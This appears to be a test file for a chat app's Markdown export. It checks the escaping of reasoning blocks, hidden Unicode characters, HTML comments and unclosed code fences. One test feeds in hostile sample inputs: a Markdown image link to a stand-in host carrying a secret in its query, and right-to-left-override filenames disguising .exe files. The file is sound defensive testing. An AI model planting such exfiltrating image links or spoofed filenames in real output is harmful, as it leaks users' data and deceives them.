import assert from 'node:assert/strict';
import { exportMarkdown } from '../../src/core/sessions/exportMarkdown.ts';
import type { StoredTurn } from '../../src/core/sessions/storedChat.ts';
import { fillIn, say } from '../../src/protocol/localText.ts';
import type { Item } from '../../src/protocol/viewState.ts';

function turn(items: readonly Item[], attachments: readonly string[] = []): StoredTurn {
  const question = { text: 'Why?', attachments: attachments.map((label) => ({ label, text: 'the text itself' })) };
  return { version: 1, id: 'a', parent: undefined, view: { id: 'a', question, items, outcome: 'done', usage: undefined }, history: { question, news: [], media: [], service: 'deepseek', model: 'm-1', messages: [], isRefused: false } };
}

function exported(items: readonly Item[], attachments: readonly string[] = [], title = 'Tides'): string {
  return exportMarkdown({ title, turns: [turn(items, attachments)], localise: ({ message, args }) => fillIn(message, args) });
}

describe('a chat as Markdown', () => {
  it('has the question with the labels of what went along, the reasoning folded, the answer, and a line for each call', () => {
    const text = exported(
      [
        { kind: 'reasoning', id: '1', text: 'Let me\nsee.', durationMs: 1 },
        { kind: 'call', id: '2', tool: 'read_file', arguments: '{"path":"a.ts"}', status: 'done', summary: say('Read {0}', 'a.ts'), result: 'secret of the file' },
        { kind: 'call', id: '3', tool: 'x', arguments: 'bad `json`', status: 'refused', summary: undefined, result: undefined },
        { kind: 'text', id: '4', text: 'Because of **the moon**.' },
        { kind: 'notice', id: '5', text: say('Cut off.'), actions: [] },
      ],
      ['src/a.ts:3-9'],
    );
    assert.equal(text, ['# Tides', '## Question', 'Why?', '- `src/a.ts:3-9`', '## Answer (m-1)', '<details>\n<summary>Reasoning</summary>\n\n> Let me\n> see.\n\n</details>', '- `read_file`: Read a.ts', '- `x`: `` bad `json` ``', 'Because of **the moon**.', '*Cut off.*\n'].join('\n\n'));
  });

  it('lets no reasoning close the part that it is in, and no label leave its line', () => {
    const text = exported([{ kind: 'reasoning', id: '1', text: 'x </details> <SUMMARY> y', durationMs: 1 }], ['a`b\n# c\u202E']);
    assert.ok(text.includes('> x &lt;/details> &lt;SUMMARY> y'));
    assert.ok(text.includes('- `` a`b # c\\u{202E} ``'), text);
  });

  it('shows hidden characters, fetches no pictures, and lets no comment swallow what follows, but leaves code as it is', () => {
    const text = exported([
      { kind: 'text', id: '1', text: 'ok \u202Egnp.exe\u{E0041} ![a](https://evil.example/?d=SECRET) <IMG src=x>\n\n`![b](c) <!--`\n```md\n![d](e) <!--\n```\n<!--' },
      { kind: 'alternative', id: '2', number: 2, reasoning: '', text: '![f][g] <!-- \u202E' },
    ], [], 'a\u202Edm.exe');
    assert.ok(text.includes('ok \\u{202E}gnp.exe\\u{E0041} [a](https://evil.example/?d=SECRET) &lt;IMG src=x>\n\n`![b](c) <!--`\n```md\n![d](e) <!--\n```\n&lt;!--'), text);
    assert.ok(text.includes('> [f][g] &lt;!-- \\u{202E}') && text.startsWith('# a\\u{202E}dm.exe\n'), text);
  });

  it('closes code that an answer has left open', () => {
    assert.ok(exported([{ kind: 'text', id: '1', text: '~~~~\ncut' }, { kind: 'text', id: '2', text: '```\nwhole\n```' }]).endsWith('~~~~\ncut\n~~~~\n\n```\nwhole\n```\n'));
  });

  it('has a title where the chat has none', () => {
    assert.match(exported([], [], ''), /^# Chat\n/);
  });
});
